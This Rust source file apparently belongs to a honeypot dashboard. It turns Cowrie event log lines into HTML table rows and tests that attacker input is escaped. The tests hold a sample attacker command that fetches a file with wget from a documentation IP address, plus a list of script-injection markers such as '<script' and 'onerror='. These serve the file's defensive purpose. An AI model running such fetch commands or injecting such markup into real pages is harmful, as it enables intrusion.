//! Events as rows of a table: when, where, from whom, what.
use super::shown::{encoded, long_value, moment, plain, value_of};
use crate::cli::format::salient;
use crate::cli::transcript::{self, Action};
use crate::events::Field;
use maud::{Markup, html};

/// An event that was found, as its line tells it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct EventRow {
    /// By which it is indexed, RFC 3339.
    pub time: String,
    pub sensor: Option<String>,
    pub src_ip: Option<String>,
    /// Empty: it names none.
    pub session: String,
    pub kind: String,
    pub what: String,
}

impl EventRow {
    pub fn of(time: String, line: &[u8]) -> EventRow {
        let told = transcript::transcripts(&[line]).into_iter().next().unwrap_or_default();
        let entry = told.entries.first();
        let kind = match entry.map(|entry| (&entry.action, entry.eventid.as_str())) {
            Some((Action::Unreadable { .. }, _)) => "(not JSON)",
            Some((_, "")) | None => "(no eventid)",
            Some((_, eventid)) => eventid.strip_prefix("cowrie.").unwrap_or(eventid),
        };
        let (kind, what) = (kind.to_owned(), entry.map(|entry| salient(&told, entry)).unwrap_or_default());
        let named = |name: Option<String>| name.filter(|name| !name.is_empty());
        EventRow { time, kind, what, sensor: named(told.sensor), src_ip: named(told.src_ip), session: told.session }
    }
}

impl EventRow {
    /// Of a line that says itself when it was.
    pub fn seen(line: &[u8]) -> EventRow {
        let told = transcript::transcripts(&[line]);
        let time = told.first().and_then(|told| told.started.clone()).unwrap_or_default();
        EventRow::of(time, line)
    }
}

/// A table of them. `live`: new ones are put on top by the script.
pub fn table(rows: &[EventRow], caption: &str, live: bool) -> Markup {
    html! {
        div .scroll tabindex="0" role="region" aria-label=(caption) {
            table .events {
                caption .unseen { (caption) }
                thead { tr { th { "time" } th { "sensor" } th { "address" } th { "event" } th { "what" } th { "session" } } }
                tbody id=[live.then_some("live-rows")] {
                    @for row in rows {
                        tr {
                            td .nowrap { (moment(&row.time)) }
                            td .name { (plain(row.sensor.as_deref().unwrap_or("–"))) }
                            td .nowrap { @match &row.src_ip { Some(address) => { (value_of(Field::SrcIp, address)) }, None => { "–" } } }
                            td { (plain(&row.kind)) }
                            td .what { @if !row.what.is_empty() { (long_value(&row.what)) } }
                            td .id { @if !row.session.is_empty() { (session_link(&row.session)) } }
                        }
                    }
                }
            }
        }
    }
}

pub fn session_link(id: &str) -> Markup {
    html! { a href=(format!("/sessions/{}", encoded(id))) { bdi { code { (plain(id)) } } } }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::simulate::hostile;

    #[test]
    fn an_event_is_told_in_a_row() {
        let line = br#"{"eventid":"cowrie.command.input","input":"wget http://203.0.113.9/a","src_ip":"192.0.2.7","sensor":"hive","session":"c0"}"#;
        let row = EventRow::of("2026-03-22T00:00:00.000000Z".into(), line);
        assert_eq!((row.kind.as_str(), row.what.as_str(), row.session.as_str()), ("command.input", "wget http://203.0.113.9/a", "c0"));
        let drawn = table(&[row], "Events", false).into_string();
        assert!(drawn.contains("192[.]0[.]2[.]7") && drawn.contains(r#"href="/sessions/c0""#), "{drawn}");
    }

    #[test]
    fn no_line_of_an_attacker_becomes_an_element() {
        let rows: Vec<EventRow> = hostile::lines().iter().map(|line| EventRow::of("2026".into(), line.as_ref())).collect();
        let drawn = table(&rows, "Events", false).into_string();
        for element in ["<script", "<img", "<svg", "onerror=\"", "<b>"] {
            assert!(!drawn.contains(element), "{element}");
        }
        assert!(!drawn.chars().any(crate::telemetry::printable::is_hostile));
    }
}
